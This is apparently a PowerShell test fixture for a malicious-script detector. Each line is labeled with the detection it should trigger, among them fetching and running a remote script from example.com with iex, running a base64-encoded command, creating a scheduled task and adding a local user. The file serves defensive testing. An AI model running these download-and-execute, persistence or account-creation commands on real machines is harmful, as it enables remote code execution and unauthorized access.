param([string]$Url = "https://example.com/a.ps1")
Write-Host "installing"
iex (New-Object Net.WebClient).DownloadString($Url)  # expect: download-execute,dynamic-eval
Invoke-WebRequest -Uri $Url -UseBasicParsing | Invoke-Expression  # expect: download-execute
powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=  # expect: base64-to-interpreter
Invoke-Expression $cmd  # expect: dynamic-eval
Get-Content .\cmd.txt | iex  # expect: dynamic-eval
Register-ScheduledTask -TaskName Agent -Action $a -Trigger $t  # expect: scheduled-task
New-LocalUser -Name svc -Password $pw  # expect: user-add
Get-ChildItem -Path $env:TEMP
